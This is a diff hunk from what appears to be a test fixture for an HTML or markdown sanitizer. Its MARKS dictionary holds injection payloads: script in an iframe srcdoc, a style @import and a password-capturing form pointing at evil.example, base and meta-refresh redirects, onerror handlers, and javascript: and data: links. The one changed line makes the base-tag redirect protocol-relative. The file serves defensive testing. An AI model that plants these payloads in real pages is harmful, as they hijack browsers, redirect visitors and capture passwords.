@@ -96,7 +96,7 @@ MARKS = {
     "frame.txt": "The ferry <iframe srcdoc='<script>top.pwned=5</script>' src=http://evil.example/></iframe> {say}",
     "style.txt": "The ferry <style>* {{ display: none }} @import url(http://evil.example/x.css)</style> {say}",
     "form.txt": "The ferry <form action=http://evil.example/><input name=password autofocus></form> {say}",
-    "base.txt": "The ferry <base href=http://evil.example/><meta http-equiv=refresh content=0;url=//evil.example> {say}",
+    "base.txt": "The ferry <base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example> {say}",
     "entity.txt": "The ferry &lt;script&gt;window.pwned=6&lt;/script&gt; &#60;img src=x onerror=pwned=7&#62; {say}",
     "link.md": "The ferry: [tickets](javascript:window.pwned=8) [more](data:text/html,<script>1</script>) {say}",
     "picture.md": "The ferry: ![map](http://evil.example/map.png) ![x](data:image/svg+xml,<svg/onload=1>) <{say}>",
